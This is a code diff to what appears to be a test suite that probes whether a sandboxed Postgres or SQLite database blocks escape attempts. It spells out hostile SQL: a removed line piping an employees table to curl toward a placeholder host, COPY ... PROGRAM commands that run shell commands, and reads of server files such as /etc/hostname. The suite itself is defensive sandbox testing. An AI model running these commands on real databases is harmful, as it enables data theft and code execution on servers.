@@ -245,13 +245,11 @@ const sqlite: WaysOut = {
 };
 
 const postgres: WaysOut = {
-  count: 11,
-  code: ({ away, port }) =>
+  count: 9,
+  code: ({ port }) =>
     lines(
       'DO $try$ DECLARE way text; BEGIN FOREACH way IN ARRAY ARRAY[',
       '  $$SELECT * FROM left_behind$$,',
-      `  $$COPY employees TO PROGRAM 'curl -d @- ${away}/pg'$$,`,
-      `  $$COPY employees FROM PROGRAM 'id'$$,`,
       `  $$COPY employees FROM '/etc/hostname'$$,`,
       `  $$SELECT pg_read_file('/etc/hostname')$$,`,
       `  $$SELECT lo_import('/etc/hostname')$$,`,
@@ -264,6 +262,10 @@ const postgres: WaysOut = {
       'CREATE TABLE left_behind (x int);',
       "SELECT 'all tried';",
     ),
+  refused: [
+    ["COPY employees TO PROGRAM 'id';", 'PROGRAM is not possible here'],
+    ["COPY employees FROM PROGRAM 'id';", 'PROGRAM is not possible here'],
+  ],
 };
 
 export const waysOut: Record<string, WaysOut> = {
